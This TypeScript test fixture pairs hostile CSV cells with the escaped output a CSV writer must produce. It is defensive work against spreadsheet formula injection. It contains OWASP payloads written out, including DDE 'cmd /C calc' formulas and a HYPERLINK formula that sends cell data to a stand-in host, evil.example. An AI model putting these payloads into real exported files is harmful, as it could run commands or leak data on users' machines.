/**
 * Hostile text cells and the field the one CSV writer (csv-write.ts) makes of each: the OWASP
 * "CSV injection" payloads, the same payloads behind a `;` or `,` (where Excel in es-ES or pt-BR,
 * which splits lines on `;`, starts a new cell), behind a line break, and in full-width forms.
 * Shared so the report writer's tests and the console export's tests hold both to the same bytes.
 */
export const HOSTILE_CSV_CELLS: readonly (readonly [cell: string, field: string])[] = [
  // A formula at the start: an apostrophe makes it text.
  [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
  [`+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`],
  [`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`],
  [`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`],
  ['=HYPERLINK("http://evil.example?x="&A1,"clic")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""clic"")"`],
  ['=DDE("cmd";"/C calc";"!A0")A0', `"'=DDE(""cmd"";""/C calc"";""!A0"")A0"`],
  // Tab and CR at the start (OWASP), and the sign after them.
  ['\t=1+1', `"'\t'=1+1"`],
  ['\r=1+1', `"'\r'=1+1"`],
  ['\ttab first', `"'\ttab first"`],
  // Behind a separator: quoting keeps the cell whole for a reader that splits on ',', but Excel
  // splitting on ';' honours a quote only at the start of its own cell, so the sign is neutralized too.
  [`x;=cmd|' /C calc'!A0`, `"x;'=cmd|' /C calc'!A0"`],
  [`x,=cmd|' /C calc'!A0`, `"x,'=cmd|' /C calc'!A0"`],
  ['x; @SUM(A1)', `"x; '@SUM(A1)"`],
  ['x;"=1+1"', `"x;""'=1+1"""`],
  ['x\t-1', `"x\t'-1"`],
  ['line\n=1+1', `"line\n'=1+1"`],
  ['line\r\n+1', `"line\r\n'+1"`],
  // Full-width signs, which East Asian input turns into formulas.
  ['\uFF1D1+1', `'\uFF1D1+1`],
  ['\uFF0B1', `'\uFF0B1`],
  ['\uFF0D1', `'\uFF0D1`],
  ['\uFF20SUM(A1)', `'\uFF20SUM(A1)`],
  // Whitespace before the sign: some readers trim it.
  [' =1+1', `" '=1+1"`],
  // Text that looks like a negative number is text (a number cell stays a number).
  ['-1', `'-1`],
  // Harmless text: untouched, quoted only when it holds a separator, a quote, a break or edge spaces.
  ['a=b', 'a=b'],
  ['1+1', '1+1'],
  ['plain', 'plain'],
  ['', ''],
  ['Impresión 3D "Pro", Querétaro', '"Impresión 3D ""Pro"", Querétaro"'],
  ['punto;y coma', '"punto;y coma"'],
  ['tab\tinside', '"tab\tinside"'],
  ['two\nlines', '"two\nlines"'],
  ['trailing ', '"trailing "'],
];

/** The bytes both writers must produce for HOSTILE_CSV_CELLS in a text column headed
 * `=Etiqueta` (a hostile label) beside a number column headed `Δ` holding -0.25 on every row:
 * the BOM, CRLF records, the negative number left as a number. */
export const HOSTILE_CSV_TEXT =
  '\uFEFF' + `'=Etiqueta,Δ\r\n` + HOSTILE_CSV_CELLS.map(([, field]) => `${field},-0.25\r\n`).join('');
